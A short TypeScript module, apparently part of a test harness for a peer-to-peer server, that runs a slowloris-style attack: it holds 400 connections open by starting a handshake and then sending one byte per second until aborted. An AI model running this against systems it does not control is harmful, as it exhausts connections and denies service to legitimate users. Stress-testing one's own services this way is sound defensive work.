/** Attack: handshakes that never end. */
import { setTimeout } from "node:timers/promises";
import type { Attack } from "../attack.ts";
import { type AttackSocket, keepConnections, tallyFigures } from "../connections.ts";

const CONNECTIONS = 400;
const BYTE_MS = 1_000;

/** Handshakes that are begun and never ended. */
export const attack: Attack = {
  summary: `${CONNECTIONS} connections to the port for peers that begin a handshake, one byte a second`,
  watchesPeer: true,
  run: async ({ peerPort: port }, signal) => {
    const use = async ({ write }: AttackSocket) => {
      await write(Buffer.of(2, 1, 0x90));
      while (!signal.aborted) {
        await write(Buffer.of(0));
        await setTimeout(BYTE_MS, undefined, { signal });
      }
    };
    return tallyFigures(await keepConnections({ port, count: CONNECTIONS, signal, use }));
  },
};
